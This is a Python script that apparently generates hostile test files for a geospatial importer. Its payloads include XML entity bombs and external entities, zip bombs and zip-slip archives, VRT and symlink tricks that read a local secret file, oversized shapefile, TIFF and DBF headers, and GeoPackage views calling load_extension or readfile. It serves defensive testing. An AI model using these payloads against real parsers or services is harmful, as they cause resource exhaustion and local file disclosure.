#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Writes files that are made to harm whoever reads them. usage: hostile.py FOLDER"""
import json
import os
import sqlite3
import struct
import sys
import zipfile

FOLDER = sys.argv[1]
SECRET = os.path.join(FOLDER, "secret.geojson")
SQUARE = "660000,4440000 660008,4440000 660008,4440008 660000,4440008 660000,4440000"
KML_POINT = "<Placemark><name>%s</name><Point><coordinates>47,40</coordinates></Point></Placemark>"


def write(name, data):
    with open(os.path.join(FOLDER, name), "wb") as f:
        f.write(data.encode() if isinstance(data, str) else data)


def laughs(root="lolz"):
    """Entities that stand for ten of the one before."""
    out = '<!DOCTYPE %s [<!ENTITY a0 "lolololol">' % root
    for i in range(1, 12):
        out += '<!ENTITY a%d "%s">' % (i, "&a%d;" % (i - 1) * 10)
    return out + "]>"


def kml(body, doctype=""):
    return ('<?xml version="1.0"?>%s<kml xmlns="http://www.opengis.net/kml/2.2"><Document>%s'
            "</Document></kml>" % (doctype, body))


def gml(body, doctype=""):
    return ('<?xml version="1.0"?>%s<f:c xmlns:f="http://e.org" xmlns:gml="http://www.opengis.net/gml"'
            ' xmlns:xlink="http://www.w3.org/1999/xlink">%s</f:c>' % (doctype, body))


def gml_feature(value, geometry=None):
    geometry = geometry or ('<gml:Polygon srsName="EPSG:32638"><gml:outerBoundaryIs><gml:LinearRing>'
                            "<gml:coordinates>%s</gml:coordinates></gml:LinearRing>"
                            "</gml:outerBoundaryIs></gml:Polygon>" % SQUARE)
    return ("<gml:featureMember><f:x fid='1'><f:t>%s</f:t><f:g>%s</f:g></f:x></gml:featureMember>"
            % (value, geometry))


def xml_files():
    write("laughs.kml", kml(KML_POINT % "&a11;", laughs("kml")))
    write("laughs.gml", gml(gml_feature("&a11;"), laughs("c")))
    flat = "x" * 50000
    write("quadratic.gml", gml(gml_feature("&q;" * 20000), '<!DOCTYPE c [<!ENTITY q "%s">]>' % flat))
    write("external.kml", kml(KML_POINT % "&e;", '<!DOCTYPE kml [<!ENTITY e SYSTEM "%s">]>' % SECRET))
    write("external.gml", gml(gml_feature("&e;"), '<!DOCTYPE c [<!ENTITY e SYSTEM "%s">]>' % SECRET))
    write("xlink.gml", gml(gml_feature("x", '<gml:Polygon xlink:href="file://%s#g"/>' % SECRET)))
    write("deep.gml", gml("<f:d>" * 200000 + "</f:d>" * 200000))
    write("deep.kml", kml("<Folder>" * 100000 + KML_POINT % "x" + "</Folder>" * 100000))
    write("link.kml", kml("<NetworkLink><Link><href>%s</href></Link></NetworkLink>" % SECRET))


def zipped(name, members):
    with zipfile.ZipFile(os.path.join(FOLDER, name), "w", zipfile.ZIP_DEFLATED) as z:
        for member, data in members:
            z.writestr(member, data)


BOMB = 600 << 20


def bomb(name, members, last, text):
    """The last member is a text and 600 MiB of spaces; packed by a streaming writer."""
    with zipfile.ZipFile(os.path.join(FOLDER, name), "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        for member, data in members:
            z.writestr(member, data)
        with z.open(last, "w") as out:
            out.write(text)
            for _ in range(BOMB >> 20):
                out.write(b" " * (1 << 20))


def zip_files():
    empty = b'{"type":"FeatureCollection","features":[]}'
    bomb("bomb.zip", [], "a.geojson", empty)
    bomb("bomb.kmz", [], "doc.kml", kml(KML_POINT % "x").encode())
    bomb("bomb.xlsx", xlsx(b""), "xl/sharedStrings.xml", b"<sst/>")
    zipped("laughs.xlsx", xlsx(b"<row r='1'><c t='inlineStr'><is><t>&a11;</t></is></c></row>",
                               laughs("worksheet").encode()))
    zipped("up.zip", [("../../up.geojson", empty)])
    zipped("absolute.zip", [(os.path.abspath(SECRET), empty)])
    zipped("vrt.zip", [("a.geojson", VRT % SECRET)])
    zipped("nested.zip", [("inner.zip", b"PK\3\4")])
    zipped("many.zip", [("%06d/a.geojson" % i, b"") for i in range(20000)])
    with open(os.path.join(FOLDER, "lie.zip"), "wb") as f:  # header states 8 EiB of content
        f.write(lying_zip())


def lying_zip():
    path = os.path.join(FOLDER, "small.zip")
    zipped("small.zip", [("a.geojson", b"{}")])
    data = bytearray(open(path, "rb").read())
    os.unlink(path)
    central = data.index(b"PK\1\2")
    data[central + 24:central + 28] = struct.pack("<I", 0xFFFFFFF0)
    return bytes(data)


def xlsx(rows, doctype=b""):
    head = b'<?xml version="1.0"?>'
    rel = b"http://schemas.openxmlformats.org/"
    kind = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return [("[Content_Types].xml", head + b'<Types xmlns="' + rel + b'package/2006/content-types">'
             b'<Override PartName="/xl/workbook.xml" ContentType="' + kind + b'"/></Types>'),
            ("xl/workbook.xml", head + b'<workbook xmlns:r="' + rel + b'officeDocument/2006/relationships"><sheets>'
             b'<sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>'),
            ("xl/_rels/workbook.xml.rels", head + b'<Relationships><Relationship Id="rId1" Type="' + rel +
             b'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'),
            ("xl/worksheets/sheet1.xml", head + doctype + b"<worksheet><sheetData>" + rows + b"</sheetData></worksheet>")]


VRT = ("<OGRVRTDataSource><OGRVRTLayer name='a'><SrcDataSource>%s</SrcDataSource><SrcLayer>secret"
       "</SrcLayer></OGRVRTLayer></OGRVRTDataSource>")


def path_files():
    write("secret.geojson", json.dumps({"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {"secret": "SECRET"},
         "geometry": {"type": "Point", "coordinates": [47, 40]}}]}))
    for name in ("vrt.geojson", "vrt.gml", "vrt.csv", "vrt.kml", "vrt.shp", "vrt.gpkg"):
        write(name, VRT % SECRET + " " + name + "\n")
    write("vrt.tif", "<VRTDataset rasterXSize='9' rasterYSize='9'><VRTRasterBand dataType='Float32' band='1'>"
          "<SimpleSource><SourceFilename>/dev/zero</SourceFilename></SimpleSource></VRTRasterBand></VRTDataset>")
    write("url.geojson", "http://127.0.0.1:9/a.geojson")
    write("esri.json", json.dumps({"displayFieldName": "", "geometryType": "esriGeometryPoint", "exceededTransferLimit":
          True, "spatialReference": {"wkid": 4326}, "features": [{"attributes": {}, "geometry": {"x": 47, "y": 40}}]}))
    write("dsn.csv", "PG:host=127.0.0.1 dbname=x\n")
    os.symlink(SECRET, os.path.join(FOLDER, "side.prj"))
    os.symlink("/dev/zero", os.path.join(FOLDER, "zero.geojson"))
    os.symlink("/dev/zero", os.path.join(FOLDER, "side.dbf"))
    for ending in ("shp", "shx"):
        write("side." + ending, shp(1, 50))
        write("fifo." + ending, shp(1, 50))
    os.mkfifo(os.path.join(FOLDER, "pipe.geojson"))
    os.mkfifo(os.path.join(FOLDER, "fifo.cpg"))


def shp(count, words):
    """Header of a point shapefile that states its length in words of 16 bits."""
    return struct.pack(">7i", 9994, 0, 0, 0, 0, 0, words) + struct.pack("<2i", 1000, 1) + b"\0" * 64


def count_files():
    write("length.shx", shp(1, 54) + struct.pack(">2i", 50, 10))
    write("length.shp", shp(1, 0x7FFFFFFF) + struct.pack(">2i", 1, 10) + struct.pack("<i2d", 1, 1, 1))
    parts = struct.pack("<i4d2i", 5, 0, 0, 1, 1, 0x10000000, 0x10000000)
    write("parts.shp", struct.pack(">7i", 9994, 0, 0, 0, 0, 0, 100) + struct.pack("<2i", 1000, 5) + b"\0" * 64
          + struct.pack(">2i", 1, 22) + parts)
    write("parts.shx", struct.pack(">7i", 9994, 0, 0, 0, 0, 0, 54) + struct.pack("<2i", 1000, 5) + b"\0" * 64
          + struct.pack(">2i", 50, 22))
    write("rows.shp", shp(1, 50))
    write("rows.shx", shp(1, 50))
    write("rows.dbf", struct.pack("<4BIHH20x", 3, 120, 1, 1, 0xFFFFFFF0, 65, 65000)
          + b"A".ljust(11, b"\0") + b"C" + b"\0" * 4 + b"\xff" + b"\0" * 15 + b"\r")
    write("huge.asc", "ncols 1000000000\nnrows 1000000000\nxllcorner 0\nyllcorner 0\ncellsize 1\n1 2 3\n")
    write("wide.asc", "ncols 2000000000\nnrows 2\nxllcorner 0\nyllcorner 0\ncellsize 1\n1 2 3\n")
    write("huge.tif", tif(1000000000, 1000000000))
    write("many.tif", tif(0x7FFFFFFF, 1))
    write("deep.geojson", '{"type":"FeatureCollection","features":' + "[" * 2000000)
    write("deep2.geojson", '{"type":"FeatureCollection","features":[{"type":"Feature","properties":' +
          '{"a":' * 100000 + "1" + "}" * 100000 + ',"geometry":null}]}')
    collection = '{"type":"GeometryCollection","geometries":['
    write("deep3.geojson", collection * 50000 + "]}" * 50000)
    write("fields.csv", ",".join("f%d" % i for i in range(300000)) + "\n1\n")
    write("line.csv", "a,b\n\"" + "x" * (40 << 20) + "\n")


def tif(width, height):
    tags = [(256, 4, width), (257, 4, height), (258, 3, 32), (259, 3, 1), (262, 3, 1), (273, 4, 8),
            (277, 3, 1), (278, 4, height), (279, 4, 0xFFFFFFFF), (339, 3, 3)]
    out = struct.pack("<2sHIH", b"II", 42, 8, len(tags))
    for tag, kind, value in tags:
        out += struct.pack("<HHII", tag, kind, 1, value)
    return out + struct.pack("<I", 0)


def gpkg(name, extra):
    path = os.path.join(FOLDER, name)
    db = sqlite3.connect(path)
    db.executescript("""PRAGMA application_id = 1196444487; PRAGMA user_version = 10200;
      CREATE TABLE gpkg_spatial_ref_sys (srs_name TEXT, srs_id INTEGER PRIMARY KEY, organization TEXT,
        organization_coordsys_id INTEGER, definition TEXT, description TEXT);
      INSERT INTO gpkg_spatial_ref_sys VALUES ('w', 32638, 'EPSG', 32638, 'x', '');
      CREATE TABLE gpkg_contents (table_name TEXT PRIMARY KEY, data_type TEXT, identifier TEXT, description TEXT,
        last_change TEXT, min_x REAL, min_y REAL, max_x REAL, max_y REAL, srs_id INTEGER);
      CREATE TABLE gpkg_geometry_columns (table_name TEXT, column_name TEXT, geometry_type_name TEXT,
        srs_id INTEGER, z INTEGER, m INTEGER);""")
    db.executescript(extra)
    db.executescript("""INSERT INTO gpkg_contents VALUES ('t','features','t','','2024-01-01T00:00:00Z',0,0,1,1,32638);
      INSERT INTO gpkg_geometry_columns VALUES ('t','geom','POINT',32638,0,0);""")
    db.commit()
    db.close()


def sqlite_files():
    point = "X'47500001787F0000" + "0101000000" + struct.pack("<2d", 660000, 4440000).hex() + "'"
    gpkg("view.gpkg", "CREATE VIEW t AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c) "
         "SELECT x AS fid, %s AS geom FROM c;" % point)
    gpkg("cross.gpkg", "CREATE TABLE n(x); INSERT INTO n VALUES(1),(2),(3),(4),(5),(6),(7),(8),(9);"
         "CREATE VIEW t AS SELECT 1 AS fid, %s AS geom, count(*) AS c FROM %s;"
         % (point, ",".join("n AS n%d" % i for i in range(14))))
    gpkg("blob.gpkg", "CREATE VIEW t AS SELECT 1 AS fid, zeroblob(2000000000) AS geom;")
    gpkg("function.gpkg", "CREATE VIEW t AS SELECT 1 AS fid, %s AS geom, load_extension('/tmp/x.so') AS e;" % point)
    gpkg("file.gpkg", "CREATE VIEW t AS SELECT 1 AS fid, %s AS geom, readfile('%s') AS e, "
         "ogr_datasource_load_layers('%s') AS f;" % (point, SECRET, SECRET))
    gpkg("virtual.gpkg", "CREATE TABLE t (fid INTEGER PRIMARY KEY, geom BLOB);"
         "PRAGMA writable_schema=ON; INSERT INTO sqlite_master VALUES('table','v','v',0,"
         "'CREATE VIRTUAL TABLE v USING VirtualOGR(''%s'')');" % SECRET)
    gpkg("count.gpkg", "CREATE TABLE t (fid INTEGER PRIMARY KEY, geom BLOB); INSERT INTO t VALUES (1, %s);"
         "CREATE TABLE gpkg_ogr_contents (table_name TEXT PRIMARY KEY, feature_count INTEGER);"
         "INSERT INTO gpkg_ogr_contents VALUES ('t', 1000000000000);" % point)


def dxf(blocks, entities, insunits=6):
    return ("0\nSECTION\n2\nHEADER\n9\n$INSUNITS\n70\n%d\n0\nENDSEC\n0\nSECTION\n2\nBLOCKS\n%s0\nENDSEC\n0\nSECTION\n"
            "2\nENTITIES\n%s0\nENDSEC\n0\nEOF\n" % (insunits, blocks, entities))


def insert(name, extra=""):
    return "0\nINSERT\n8\nL\n2\n%s\n10\n660000\n20\n4440000\n%s" % (name, extra)


def block(name, body):
    return "0\nBLOCK\n8\nL\n2\n%s\n10\n0\n20\n0\n%s0\nENDBLK\n" % (name, body)


def dxf_files():
    point = "0\nPOINT\n8\nL\n10\n660000\n20\n4440000\n"
    write("self.dxf", dxf(block("A", insert("A")), insert("A")))
    chain = "".join(block("B%d" % i, insert("B%d" % (i + 1))) for i in range(10000))
    write("chain.dxf", dxf(chain + block("B10000", point), insert("B0")))
    fan = "".join(block("C%d" % i, insert("C%d" % (i + 1)) * 10) for i in range(12))
    write("fan.dxf", dxf(fan + block("C12", point), insert("C0")))
    write("array.dxf", dxf(block("D", point), insert("D", "70\n30000\n71\n30000\n44\n1\n45\n1\n")))
    write("vertices.dxf", dxf("", "0\nLWPOLYLINE\n8\nL\n90\n2000000000\n70\n1\n10\n660000\n20\n4440000\n"))


xml_files()
path_files()
zip_files()
count_files()
sqlite_files()
dxf_files()
